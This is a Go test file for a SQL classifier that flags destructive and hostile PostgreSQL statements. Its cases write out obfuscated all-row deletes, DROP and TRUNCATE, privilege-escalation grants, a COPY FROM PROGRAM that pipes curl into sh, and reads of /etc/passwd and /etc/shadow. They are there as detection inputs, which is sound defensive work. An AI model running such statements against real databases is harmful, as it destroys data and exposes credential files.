package sql

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"
)

// find returns the first statement with the command, failing the test if
// there is none.
func find(t *testing.T, r *Result, command string) *Statement {
	t.Helper()
	for i := range r.Statements {
		if r.Statements[i].Command == command {
			return &r.Statements[i]
		}
	}
	t.Fatalf("no %s statement in %+v", command, r.Statements)
	return nil
}

func contains(t *testing.T, what string, list []string, want string) {
	t.Helper()
	if !slices.Contains(list, want) {
		t.Errorf("%s = %q, want it to contain %q", what, list, want)
	}
}

func equal[T comparable](t *testing.T, what string, got, want T) {
	t.Helper()
	if got != want {
		t.Errorf("%s = %v, want %v", what, got, want)
	}
}

// allRowsDelete checks a DELETE FROM users that reaches every row.
func allRowsDelete(where, ctx string) func(*testing.T, *Result) {
	return func(t *testing.T, r *Result) {
		s := find(t, r, "DELETE")
		equal(t, "where", s.Where, where)
		equal(t, "all_rows", s.AllRows, true)
		equal(t, "context", s.Context, ctx)
		equal(t, "nested", s.Nested, ctx != ContextStatement)
		contains(t, "tables", s.Tables, "users")
		equal(t, "any_write_all_rows", r.AnyWriteAllRows, true)
	}
}

// harmless checks that nothing dangerous is reported.
func harmless(t *testing.T, r *Result) {
	t.Helper()
	if r.Unparseable || r.AnyWriteAllRows || r.AnyDrop || r.AnyTruncate || r.AnyDropColumn ||
		r.AnyPrivilegeEscalation || r.AnyServerAccess || r.AnyDynamicSQL || r.AnySafeguardOff {
		b, _ := json.Marshal(r)
		t.Errorf("not harmless: %s", b)
	}
}

var cases = []struct {
	name  string
	sql   string
	check func(*testing.T, *Result)
}{
	// Obfuscation: all must still be caught.
	{"case", `dElEtE fRoM users`, allRowsDelete(WhereAbsent, ContextStatement)},
	{"comments", `DELETE /* x */ FROM users -- y`, allRowsDelete(WhereAbsent, ContextStatement)},
	{"nested comments", `DELETE /* a /* b */ c */ FROM users`, allRowsDelete(WhereAbsent, ContextStatement)},
	{"quoted", `DELETE FROM "users"`, allRowsDelete(WhereAbsent, ContextStatement)},
	{"schema quoted", `DELETE FROM "public"."users"`, func(t *testing.T, r *Result) {
		s := find(t, r, "DELETE")
		equal(t, "all_rows", s.AllRows, true)
		contains(t, "tables", s.Tables, "public.users")
		contains(t, "table_names", r.TableNames, "users")
	}},
	{"quoted keeps case", `DELETE FROM "Users"`, func(t *testing.T, r *Result) {
		contains(t, "tables", find(t, r, "DELETE").Tables, "Users")
	}},
	{"unicode escape", `DELETE FROM U&"d\0061ta"`, func(t *testing.T, r *Result) {
		s := find(t, r, "DELETE")
		contains(t, "tables", s.Tables, "data")
		equal(t, "all_rows", s.AllRows, true)
	}},
	{"cte", `WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x`, func(t *testing.T, r *Result) {
		allRowsDelete(WhereAbsent, ContextCTE)(t, r)
		equal(t, "select tables", len(find(t, r, "SELECT").Tables), 0) // x is the CTE
	}},
	{"explain analyze", `EXPLAIN ANALYZE DELETE FROM users`, allRowsDelete(WhereAbsent, ContextExplainAnalyze)},
	{"explain (analyze)", `EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users`, allRowsDelete(WhereAbsent, ContextExplainAnalyze)},
	// PostgreSQL takes the last analyze option: this one runs the DELETE.
	// SQL/JSON syntax is a function call to an older server: listed.
	{"sql/json syntax", `SELECT json_scalar(1), json_value(j, '$.a'), json_exists(j, '$'), json_query(j, '$'), json_serialize(j), json(j), json_object('a': 1), json_array(1) FROM docs, json_table('{}', '$' COLUMNS (a int)) jt`, func(t *testing.T, r *Result) {
		for _, f := range []string{"json_scalar", "json_value", "json_exists", "json_query", "json_serialize", "json", "json_object", "json_array", "json_table"} {
			contains(t, "functions", r.Functions, f)
		}
	}},
	{"merge_action", `MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v RETURNING merge_action()`, func(t *testing.T, r *Result) {
		contains(t, "functions", r.Functions, "merge_action")
	}},
	{"explain (analyze off, analyze)", `EXPLAIN (ANALYZE off, ANALYZE) DELETE FROM users`, allRowsDelete(WhereAbsent, ContextExplainAnalyze)},
	{"explain (analyse 'yes')", `EXPLAIN (analyse 'yes', costs off) DELETE FROM users`, allRowsDelete(WhereAbsent, ContextExplainAnalyze)},
	{"explain only", `EXPLAIN DELETE FROM users`, func(t *testing.T, r *Result) {
		s := find(t, r, "DELETE")
		equal(t, "explain_only", s.ExplainOnly, true)
		equal(t, "any_write_all_rows", r.AnyWriteAllRows, false)
	}},
	{"copy query", `COPY (DELETE FROM users RETURNING id) TO STDOUT`, allRowsDelete(WhereAbsent, ContextCopy)},
	{"prepare", `PREPARE p AS DELETE FROM users`, allRowsDelete(WhereAbsent, ContextPrepare)},
	{"rule", `CREATE RULE r AS ON INSERT TO log DO ALSO DELETE FROM users`, allRowsDelete(WhereAbsent, ContextRule)},
	{"sql function body", `CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM users'`, allRowsDelete(WhereAbsent, ContextFunctionBody)},
	{"begin atomic body", `CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END`, allRowsDelete(WhereAbsent, ContextFunctionBody)},
	{"plpgsql function body", `CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; END $$`, allRowsDelete(WhereAbsent, ContextFunctionBody)},
	{"do block static", `DO $$ BEGIN DELETE FROM users; END $$`, allRowsDelete(WhereAbsent, ContextDoBlock)},
	{"do block constant execute", `DO $$ BEGIN EXECUTE 'DELETE FROM users'; END $$`, func(t *testing.T, r *Result) {
		allRowsDelete(WhereAbsent, ContextDynamic)(t, r)
		equal(t, "any_dynamic_sql", r.AnyDynamicSQL, false) // constant: checked statically
	}},
	{"multi statement", `SELECT 1; DROP TABLE users`, func(t *testing.T, r *Result) {
		equal(t, "statements", len(r.Statements), 2)
		s := find(t, r, "DROP")
		equal(t, "drop_object_type", s.DropObjectType, "TABLE")
		contains(t, "tables", s.Tables, "users")
		equal(t, "any_drop", r.AnyDrop, true)
		if !slices.Equal(r.Commands, []string{"SELECT", "DROP"}) {
			t.Errorf("commands = %q", r.Commands)
		}
	}},
	{"where 1=1", `DELETE FROM users WHERE 1=1`, allRowsDelete(WhereConstant, ContextStatement)},
	{"where true", `DELETE FROM users WHERE true`, allRowsDelete(WhereConstant, ContextStatement)},
	{"where not false", `DELETE FROM users WHERE NOT false`, allRowsDelete(WhereConstant, ContextStatement)},
	{"where 'a'='a'", `DELETE FROM users WHERE 'a'='a'`, allRowsDelete(WhereConstant, ContextStatement)},
	{"where 1 in (1)", `DELETE FROM users WHERE 1 IN (1)`, allRowsDelete(WhereConstant, ContextStatement)},
	{"where or true", `DELETE FROM users WHERE id = 5 OR 1=1`, allRowsDelete(WhereConstant, ContextStatement)},
	{"where col=col", `DELETE FROM users WHERE id = id`, allRowsDelete(WhereConstant, ContextStatement)},
	{"where uncorrelated exists", `DELETE FROM users WHERE EXISTS (SELECT 1 FROM pg_class c WHERE c.relname = 'x')`, allRowsDelete(WhereConstant, ContextStatement)},
	{"update where constant", `UPDATE users SET admin = true WHERE 2 > 1`, func(t *testing.T, r *Result) {
		s := find(t, r, "UPDATE")
		equal(t, "where", s.Where, WhereConstant)
		equal(t, "all_rows", s.AllRows, true)
	}},
	{"delete using", `DELETE FROM users USING orders`, func(t *testing.T, r *Result) {
		s := find(t, r, "DELETE")
		equal(t, "join_without_where", s.JoinWithoutWhere, true)
		equal(t, "all_rows", s.AllRows, true)
		if !slices.Equal(s.Tables, []string{"users"}) {
			t.Errorf("tables = %q", s.Tables)
		}
		contains(t, "relations", s.Relations, "orders")
	}},
	{"update from", `UPDATE users SET a = o.a FROM orders o`, func(t *testing.T, r *Result) {
		equal(t, "join_without_where", find(t, r, "UPDATE").JoinWithoutWhere, true)
	}},
	{"update from where other table only", `UPDATE users u SET a = 1 FROM orders o WHERE o.id = 1`, func(t *testing.T, r *Result) {
		s := find(t, r, "UPDATE")
		equal(t, "where", s.Where, WhereConstant)
		equal(t, "all_rows", s.AllRows, true)
	}},
	{"merge on true", `MERGE INTO users u USING src s ON true WHEN MATCHED THEN DELETE`, func(t *testing.T, r *Result) {
		s := find(t, r, "MERGE")
		equal(t, "where", s.Where, WhereConstant)
		equal(t, "all_rows", s.AllRows, true)
	}},
	{"merge not matched by source", `MERGE INTO users u USING src s ON u.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE`, func(t *testing.T, r *Result) {
		equal(t, "all_rows", find(t, r, "MERGE").AllRows, true)
	}},
	{"truncate cascade", `TRUNCATE users CASCADE`, func(t *testing.T, r *Result) {
		s := find(t, r, "TRUNCATE")
		equal(t, "cascade", s.Cascade, true)
		contains(t, "tables", s.Tables, "users")
		equal(t, "any_truncate", r.AnyTruncate, true)
	}},
	{"drop schema cascade", `DROP SCHEMA IF EXISTS app CASCADE`, func(t *testing.T, r *Result) {
		s := find(t, r, "DROP")
		equal(t, "drop_object_type", s.DropObjectType, "SCHEMA")
		equal(t, "cascade", s.Cascade, true)
		contains(t, "tables", s.Tables, "app")
	}},
	{"drop database", `DROP DATABASE prod`, func(t *testing.T, r *Result) {
		equal(t, "drop_object_type", find(t, r, "DROP").DropObjectType, "DATABASE")
	}},
	{"drop column", `ALTER TABLE t DROP COLUMN c`, func(t *testing.T, r *Result) {
		s := find(t, r, "ALTER TABLE")
		equal(t, "drop_column", s.DropColumn, true)
		contains(t, "tables", s.Tables, "t")
		equal(t, "any_drop_column", r.AnyDropColumn, true)
	}},
	{"grant predefined role", `GRANT pg_execute_server_program TO bob`, func(t *testing.T, r *Result) {
		s := find(t, r, "GRANT")
		contains(t, "privilege_escalation", s.PrivilegeEscalation, "predefined role pg_execute_server_program")
		equal(t, "any_privilege_escalation", r.AnyPrivilegeEscalation, true)
	}},
	{"grant all to public", `GRANT ALL ON TABLE users TO PUBLIC WITH GRANT OPTION`, func(t *testing.T, r *Result) {
		s := find(t, r, "GRANT")
		contains(t, "privilege_escalation", s.PrivilegeEscalation, "GRANT ALL")
		contains(t, "privilege_escalation", s.PrivilegeEscalation, "GRANT to PUBLIC")
		contains(t, "privilege_escalation", s.PrivilegeEscalation, "WITH GRANT OPTION")
		contains(t, "tables", s.Tables, "users")
	}},
	{"alter role superuser", `ALTER ROLE bob SUPERUSER`, func(t *testing.T, r *Result) {
		contains(t, "privilege_escalation", find(t, r, "ALTER ROLE").PrivilegeEscalation, "SUPERUSER")
	}},
	{"create role attributes", `CREATE ROLE eve LOGIN BYPASSRLS CREATEROLE IN ROLE pg_read_server_files`, func(t *testing.T, r *Result) {
		p := find(t, r, "CREATE ROLE").PrivilegeEscalation
		contains(t, "privilege_escalation", p, "BYPASSRLS")
		contains(t, "privilege_escalation", p, "CREATEROLE")
		contains(t, "privilege_escalation", p, "predefined role pg_read_server_files")
	}},
	{"nosuperuser is not escalation", `ALTER ROLE bob NOSUPERUSER NOCREATEDB`, harmless},
	{"alter default privileges", `ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO bob`, func(t *testing.T, r *Result) {
		contains(t, "privilege_escalation", find(t, r, "ALTER DEFAULT PRIVILEGES").PrivilegeEscalation, "ALTER DEFAULT PRIVILEGES")
	}},
	{"security definer", `CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'`, func(t *testing.T, r *Result) {
		contains(t, "privilege_escalation", find(t, r, "CREATE FUNCTION").PrivilegeEscalation, "SECURITY DEFINER")
	}},
	{"owner to", `ALTER TABLE users OWNER TO mallory`, func(t *testing.T, r *Result) {
		contains(t, "privilege_escalation", find(t, r, "ALTER TABLE").PrivilegeEscalation, "OWNER TO")
	}},
	{"copy from program", `COPY t FROM PROGRAM 'curl x | sh'`, func(t *testing.T, r *Result) {
		s := find(t, r, "COPY")
		contains(t, "server_access", s.ServerAccess, "COPY PROGRAM")
		contains(t, "tables", s.Tables, "t")
		equal(t, "any_server_access", r.AnyServerAccess, true)
	}},
	{"copy to file", `COPY users TO '/tmp/users.csv'`, func(t *testing.T, r *Result) {
		contains(t, "server_access", find(t, r, "COPY").ServerAccess, "COPY TO file")
	}},
	{"pg_read_file", `SELECT pg_read_file('/etc/passwd')`, func(t *testing.T, r *Result) {
		s := find(t, r, "SELECT")
		contains(t, "server_access", s.ServerAccess, "pg_read_file")
		contains(t, "functions", r.Functions, "pg_read_file")
	}},
	{"pg_read_file qualified in from", `select * from PG_CATALOG.Pg_Read_File('/etc/passwd')`, func(t *testing.T, r *Result) {
		contains(t, "server_access", find(t, r, "SELECT").ServerAccess, "pg_read_file")
		contains(t, "functions", r.Functions, "pg_catalog.pg_read_file")
	}},
	{"lo_import in subquery", `SELECT * FROM t WHERE id = (SELECT lo_import('/etc/shadow'))`, func(t *testing.T, r *Result) {
		contains(t, "server_access", find(t, r, "SELECT").ServerAccess, "lo_import")
	}},
	{"do dynamic execute", `DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'users'; END $$`, func(t *testing.T, r *Result) {
		s := find(t, r, "DO")
		contains(t, "dynamic_sql", s.DynamicSQL, "EXECUTE")
		equal(t, "any_dynamic_sql", r.AnyDynamicSQL, true)
	}},
	{"do plpgsql expression", `DO $$ DECLARE x text; BEGIN x := pg_read_file('/etc/passwd'); END $$`, func(t *testing.T, r *Result) {
		contains(t, "server_access", find(t, r, "DO").ServerAccess, "pg_read_file")
	}},
	{"do untrusted language", `DO LANGUAGE plpython3u $$ import os; os.system('id') $$`, func(t *testing.T, r *Result) {
		s := find(t, r, "DO")
		contains(t, "server_access", s.ServerAccess, "language plpython3u")
		contains(t, "dynamic_sql", s.DynamicSQL, "plpython3u body")
	}},
	{"dblink_exec dynamic", `SELECT dblink_exec('host=x', 'DROP ' || 'TABLE users')`, func(t *testing.T, r *Result) {
		s := find(t, r, "SELECT")
		contains(t, "dynamic_sql", s.DynamicSQL, "dblink_exec(...)")
		contains(t, "server_access", s.ServerAccess, "dblink_exec")
	}},
	{"dblink_exec constant", `SELECT dblink_exec('host=x', 'DROP TABLE users')`, func(t *testing.T, r *Result) {
		s := find(t, r, "DROP")
		equal(t, "context", s.Context, ContextDynamic)
	}},
	{"standard_conforming_strings off", `SET standard_conforming_strings TO off`, func(t *testing.T, r *Result) {
		contains(t, "safeguard_off", find(t, r, "SET").SafeguardOff, "standard_conforming_strings=off")
	}},
	// PostgreSQL takes a unique prefix of off, and 0, as false.
	{"standard_conforming_strings 'of'", `SET standard_conforming_strings = 'of'; SET standard_conforming_strings = 0`, func(t *testing.T, r *Result) {
		for _, st := range r.Statements {
			contains(t, "safeguard_off", st.SafeguardOff, "standard_conforming_strings=off")
		}
	}},
	{"standard_conforming_strings via set_config", `SELECT set_config('standard_conforming_strings', 'false', true)`, func(t *testing.T, r *Result) {
		contains(t, "safeguard_off", find(t, r, "SELECT").SafeguardOff, "standard_conforming_strings=off")
	}},
	{"set client_encoding sjis", `SET client_encoding = 'SJIS'`, func(t *testing.T, r *Result) {
		contains(t, "safeguard_off", find(t, r, "SET").SafeguardOff, "client_encoding=sjis")
	}},
	{"set names big5, any spelling", `set local NAMES 'Big-5'`, func(t *testing.T, r *Result) {
		contains(t, "safeguard_off", find(t, r, "SET").SafeguardOff, "client_encoding=big-5")
	}},
	{"set_config client_encoding gbk", `SELECT set_config('client_encoding', 'Windows936', false)`, func(t *testing.T, r *Result) {
		contains(t, "safeguard_off", find(t, r, "SELECT").SafeguardOff, "client_encoding=windows936")
	}},
	{"set_config client_encoding non-constant", `SELECT set_config('client_encoding', $1, false)`, func(t *testing.T, r *Result) {
		contains(t, "safeguard_off", find(t, r, "SELECT").SafeguardOff, "client_encoding=<non-constant>")
	}},
	{"set_config safeguard non-constant", `SELECT set_config('session_replication_role', current_setting('x.y'), false)`, func(t *testing.T, r *Result) {
		contains(t, "safeguard_off", find(t, r, "SELECT").SafeguardOff, "session_replication_role=<non-constant>")
	}},
	{"alter role set client_encoding", `ALTER ROLE app SET client_encoding = 'johab'`, func(t *testing.T, r *Result) {
		if !r.AnySafeguardOff {
			t.Error("ALTER ROLE ... SET client_encoding = johab: not a safeguard switched off")
		}
	}},
	{"set session_replication_role", `SET session_replication_role = replica`, func(t *testing.T, r *Result) {
		contains(t, "safeguard_off", find(t, r, "SET").SafeguardOff, "session_replication_role=replica")
		equal(t, "any_safeguard_off", r.AnySafeguardOff, true)
	}},
	{"set_config row_security", `SELECT set_config('row_security', 'off', false)`, func(t *testing.T, r *Result) {
		contains(t, "safeguard_off", find(t, r, "SELECT").SafeguardOff, "row_security=off")
	}},
	{"set local row_security", `SET LOCAL row_security TO 'OFF'`, func(t *testing.T, r *Result) {
		contains(t, "safeguard_off", find(t, r, "SET").SafeguardOff, "row_security=off")
	}},
	{"disable trigger", `ALTER TABLE t DISABLE TRIGGER ALL`, func(t *testing.T, r *Result) {
		contains(t, "safeguard_off", find(t, r, "ALTER TABLE").SafeguardOff, "DISABLE TRIGGER")
	}},
	{"alter system", `ALTER SYSTEM SET fsync = off`, func(t *testing.T, r *Result) {
		s := find(t, r, "ALTER SYSTEM")
		contains(t, "safeguard_off", s.SafeguardOff, "ALTER SYSTEM")
		contains(t, "safeguard_off", s.SafeguardOff, "fsync=off")
	}},
	{"dollar quoting", `DO $body$ BEGIN DROP TABLE users; END $body$`, func(t *testing.T, r *Result) {
		s := find(t, r, "DROP")
		equal(t, "context", s.Context, ContextDoBlock)
		contains(t, "tables", s.Tables, "users")
	}},
	{"dollar quote tag in body", `DO $$ BEGIN PERFORM '$vigil$'; DELETE FROM users; END $$`, allRowsDelete(WhereAbsent, ContextDoBlock)},
	{"trigger function bound", `CREATE TRIGGER t BEFORE INSERT ON a FOR EACH ROW EXECUTE FUNCTION lo_export()`, func(t *testing.T, r *Result) {
		contains(t, "server_access", find(t, r, "CREATE TRIGGER").ServerAccess, "lo_export")
	}},
	{"language internal", `CREATE FUNCTION rf(text) RETURNS text AS 'pg_read_file_off_len' LANGUAGE internal`, func(t *testing.T, r *Result) {
		contains(t, "server_access", find(t, r, "CREATE FUNCTION").ServerAccess, "language internal")
	}},

	// Look-alikes: must stay harmless.
	{"string literal", `SELECT 'DROP TABLE users'`, func(t *testing.T, r *Result) {
		harmless(t, r)
		if !slices.Equal(r.Commands, []string{"SELECT"}) {
			t.Errorf("commands = %q", r.Commands)
		}
	}},
	{"literal in where", `SELECT * FROM users WHERE note = 'DELETE FROM x'`, func(t *testing.T, r *Result) {
		harmless(t, r)
		contains(t, "tables", r.Tables, "users")
	}},
	{"comment only", `-- DROP TABLE users`, func(t *testing.T, r *Result) {
		harmless(t, r)
		equal(t, "statements", len(r.Statements), 0)
	}},
	{"update with parameter", `UPDATE users SET a=1 WHERE id = $1`, func(t *testing.T, r *Result) {
		harmless(t, r)
		s := find(t, r, "UPDATE")
		equal(t, "where", s.Where, WherePresent)
		equal(t, "all_rows", s.AllRows, false)
	}},
	{"delete with where", `DELETE FROM users WHERE id = 5`, func(t *testing.T, r *Result) {
		harmless(t, r)
		equal(t, "where", find(t, r, "DELETE").Where, WherePresent)
	}},
	{"delete using with join", `DELETE FROM users u USING orders o WHERE o.user_id = u.id`, func(t *testing.T, r *Result) {
		harmless(t, r)
		equal(t, "join_without_where", find(t, r, "DELETE").JoinWithoutWhere, false)
	}},
	{"column named drop_count", `SELECT drop_count FROM stats`, harmless},
	{"table named drop_log", `CREATE TABLE drop_log(id int, note text)`, func(t *testing.T, r *Result) {
		harmless(t, r)
		contains(t, "tables", find(t, r, "CREATE TABLE").Tables, "drop_log")
	}},
	{"function named like pg_read_file", `SELECT my_pg_read_file_stats()`, harmless},
	{"explain without analyze", `EXPLAIN SELECT * FROM users`, harmless},
	{"set origin", `SET session_replication_role = origin`, harmless},
	{"set client_encoding utf8", `SET client_encoding = 'UTF8'`, harmless},
	{"standard_conforming_strings on", `SET standard_conforming_strings = on`, harmless},
	{"set names latin1", `SET NAMES 'LATIN1'`, harmless},
	{"client_encoding to default", `SET client_encoding TO DEFAULT; RESET client_encoding`, harmless},
	{"set_config client_encoding utf8", `SELECT set_config('client_encoding', 'utf-8', false)`, harmless},
	{"plpgsql with safe body", `DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM users WHERE id = 1; IF n > 0 THEN RAISE NOTICE 'x'; END IF; END $$`, harmless},

	// Unparseable.
	{"syntax error", `DELETE FROM`, func(t *testing.T, r *Result) {
		equal(t, "unparseable", r.Unparseable, true)
		if !strings.Contains(r.ParseError, "syntax error") {
			t.Errorf("parse_error = %q", r.ParseError)
		}
		equal(t, "statements", len(r.Statements), 0)
	}},
	{"garbage", `SELEC * FRM users`, func(t *testing.T, r *Result) {
		equal(t, "unparseable", r.Unparseable, true)
		equal(t, "parse_error", r.ParseError, `syntax error at or near "SELEC"`)
	}},
	{"nul byte", "SELECT 1\x00; DROP TABLE users", func(t *testing.T, r *Result) {
		equal(t, "unparseable", r.Unparseable, true)
		equal(t, "parse_error", r.ParseError, "input contains a NUL byte")
	}},
	{"invalid utf8", "SELECT '\xff'", func(t *testing.T, r *Result) {
		equal(t, "unparseable", r.Unparseable, true)
	}},
}

func TestClassify(t *testing.T) {
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r, err := Classify(tc.sql)
			if err != nil {
				t.Fatalf("Classify: %v", err)
			}
			tc.check(t, r)
		})
	}
}

func TestFingerprintAndNormalize(t *testing.T) {
	a, err := Classify(`DELETE FROM users WHERE id = 5`)
	if err != nil {
		t.Fatal(err)
	}
	b, err := Classify(`delete  from users /* c */ where id = 6`)
	if err != nil {
		t.Fatal(err)
	}
	equal(t, "fingerprint equal", a.Fingerprint == b.Fingerprint && a.Fingerprint != "", true)
	equal(t, "normalized", a.Normalized, `DELETE FROM users WHERE id = $1`)
}

func TestTooLarge(t *testing.T) {
	r, err := Classify("SELECT " + strings.Repeat("1+", MaxInputSize/2) + "1")
	if err != nil {
		t.Fatal(err)
	}
	equal(t, "unparseable", r.Unparseable, true)
	if !strings.Contains(r.ParseError, "limit") {
		t.Errorf("parse_error = %q", r.ParseError)
	}
}

func TestDeepNesting(t *testing.T) {
	for _, tc := range []struct {
		sql         string
		unparseable bool
	}{
		// Parentheses leave no node behind: a flat tree.
		{"SELECT " + strings.Repeat("(", 5000) + "1" + strings.Repeat(")", 5000), false},
		// Past the protobuf decoder's recursion limit.
		{"SELECT " + strings.Repeat("1+", 5000) + "1", true},
		// Past MaxDepth.
		{"SELECT " + strings.Repeat("ARRAY[", 3000) + "1" + strings.Repeat("]", 3000), true},
		{strings.Repeat("SELECT (", 600) + "1" + strings.Repeat(")", 600), true},
	} {
		r, err := Classify(tc.sql)
		if err != nil {
			t.Fatal(err)
		}
		if r.Unparseable != tc.unparseable {
			t.Errorf("%.30s...: unparseable = %v (%s), want %v", tc.sql, r.Unparseable, r.ParseError, tc.unparseable)
		}
	}
}

// TestJSONShape checks the plain-data contract the policy engine relies on:
// snake_case names and lists that are never null.
func TestJSONShape(t *testing.T) {
	for _, sql := range []string{`SELECT 1`, `DELETE FROM`} {
		r, err := Classify(sql)
		if err != nil {
			t.Fatal(err)
		}
		b, err := json.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(b), "null") {
			t.Errorf("%s: null in %s", sql, b)
		}
		var m map[string]any
		if err := json.Unmarshal(b, &m); err != nil {
			t.Fatal(err)
		}
		for _, k := range []string{"statements", "unparseable", "fingerprint", "commands", "tables", "functions", "any_write_all_rows", "any_dynamic_sql"} {
			if _, ok := m[k]; !ok {
				t.Errorf("%s: no %q in %s", sql, k, b)
			}
		}
	}
}

func FuzzClassify(f *testing.F) {
	for _, tc := range cases {
		f.Add(tc.sql)
	}
	f.Fuzz(func(t *testing.T, sql string) {
		r, err := Classify(sql)
		if err != nil {
			t.Fatalf("Classify(%q): %v", sql, err)
		}
		if r.Unparseable && r.ParseError == "" {
			t.Fatalf("Classify(%q): unparseable without a message", sql)
		}
		if _, err := json.Marshal(r); err != nil {
			t.Fatalf("Classify(%q): marshal: %v", sql, err)
		}
	})
}

// BenchmarkClassify measures a typical statement, parsing, fingerprint and
// normalization included, and reports p50 and p99 latencies.
func BenchmarkClassify(b *testing.B) {
	const sql = `UPDATE accounts SET balance = balance - $1 WHERE id = $2`
	b.ReportAllocs()
	var lat []time.Duration
	for b.Loop() {
		start := time.Now()
		if _, err := Classify(sql); err != nil {
			b.Fatal(err)
		}
		lat = append(lat, time.Since(start))
	}
	slices.Sort(lat)
	b.ReportMetric(float64(lat[len(lat)/2].Nanoseconds()), "p50-ns")
	b.ReportMetric(float64(lat[len(lat)*99/100].Nanoseconds()), "p99-ns")
}
